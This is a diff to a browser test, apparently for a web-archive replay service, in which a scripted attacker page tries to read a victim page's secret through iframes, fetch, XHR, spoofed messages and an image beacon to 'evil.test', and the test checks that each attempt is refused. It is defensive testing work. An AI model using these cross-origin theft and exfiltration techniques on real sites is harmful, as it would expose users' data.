@@ -30,8 +30,9 @@ const imported = async (request, name, url, ...records) => {
 
 /* global learnt */
 /** The attacker: what it can learn it leaves in window.learnt. */
-function attack(victim, port) {
-  const own = location.hostname.match(/\.([2-9a-hjkmnp-z]{12})(?:-[so]+)?\.localhost$/)[1];
+function attack(victim, known, port) {
+  // By which label it is read itself; that of the victim it has been told, whoever did that.
+  const own = location.hostname.match(/\.([a-z2-7]{26})(?:-[so]+)?\.localhost$/)[1];
   window.learnt = { heard: [], read: {}, source: document.documentElement.outerHTML };
   addEventListener('message', event => {
     learnt.heard.push(JSON.stringify(event.data));
@@ -42,7 +43,7 @@ function attack(victim, port) {
     }
   });
   const everything = [];
-  for (const code of [own, victim, '__proto__', {}, null, 7])
+  for (const code of [own, known, victim, '__proto__', {}, null, 7])
     for (const proof of [undefined, '', 'guessed', null, {}, [], true, 'f'.repeat(40)]) {
       const common = {
         code,
@@ -99,7 +100,7 @@ function attack(victim, port) {
   const picture = new Image();
   picture.src = 'http://evil.test/really-asked?stolen=secret';
   document.documentElement.append(picture);
-  const there = (host, code, path) => `http://http.${host}.${code}.localhost:${port}${path}`;
+  const there = (host, label, path) => `http://http.${host}.${label}.localhost:${port}${path}`;
   const keep = async (name, work) => {
     try {
       learnt.read[name] = String(await work());
@@ -108,14 +109,15 @@ function attack(victim, port) {
     }
   };
   const nested = document.createElement('iframe');
-  nested.src = there('victim.test', victim, '/secret');
+  nested.src = there('victim.test', known, '/secret');
   nested.onload = () => keep('nested', () => nested.contentDocument.body.textContent);
   document.documentElement.append(nested);
   learnt.done = Promise.all([
-    keep('fetch under our code', async () => (await fetch(there('victim.test', own, '/secret'))).text()),
     keep('fetch under its code', async () => (await fetch(there('victim.test', victim, '/secret'))).text()),
+    keep('fetch under our label', async () => (await fetch(there('victim.test', own, '/secret'))).text()),
+    keep('fetch under its label', async () => (await fetch(there('victim.test', known, '/secret'))).text()),
     keep('fetch with credentials', async () =>
-      (await fetch(there('victim.test', victim, '/secret'), { credentials: 'include', mode: 'cors' })).text(),
+      (await fetch(there('victim.test', known, '/secret'), { credentials: 'include', mode: 'cors' })).text(),
     ),
     keep('fetch its data', async () => (await fetch('http://victim.test/data.json')).text()),
     keep('ask with a field of ours', async () =>
@@ -126,7 +128,7 @@ function attack(victim, port) {
       () =>
         new Promise((done, failed) => {
           const ask = new XMLHttpRequest();
-          ask.open('GET', there('victim.test', victim, '/secret'));
+          ask.open('GET', there('victim.test', known, '/secret'));
           ask.onload = () => done(ask.responseText);
           ask.onerror = failed;
           ask.send();
@@ -152,13 +154,14 @@ test('a page cannot say that it is another one, offer what it read to be kept, o
     record('http://victim.test/data.json', '{"the":"secret words"}', 'application/json'),
     record('http://victim.test/secret.js', 'export const secret = "the secret words";', 'text/javascript'),
   );
+  const known = /<iframe[^>]*\.([a-z2-7]{26})\./.exec(await (await request.get('/c/' + victim)).text())[1];
   const attacker = await imported(
     request,
     'attacker',
     'http://attacker.test/',
     record(
       'http://attacker.test/',
-      `<!doctype html><title>Attacker</title><script>(${attack})(${JSON.stringify(victim)},${JSON.stringify(port)})</script><p` +
+      `<!doctype html><title>Attacker</title><script>(${attack})(${[victim, known, port].map(one => JSON.stringify(one))})</script><p` +
         ` id="words">words of the attacker</p>`,
       undefined,
       '2025-03-04T05:06:07Z',
@@ -192,7 +195,7 @@ test('a page cannot say that it is another one, offer what it read to be kept, o
   expect(learnt.heard.join()).not.toMatch(/[0-9a-f]{40}/);
   expect(learnt.read['our own document']).toContain('words of the attacker');
   for (const [way, words] of Object.entries(learnt.read)) expect(way + ': ' + words).not.toContain('secret words');
-  expect(learnt.read['fetch under our code']).toBe('refused');
+  expect(learnt.read['fetch under our label']).toBe('refused');
   // The victim itself proves what it is: where it is read, the window says so.
   await page.goto('/c/' + victim);
   await expect(page.frameLocator('#page').locator('p')).toHaveText('the secret words');
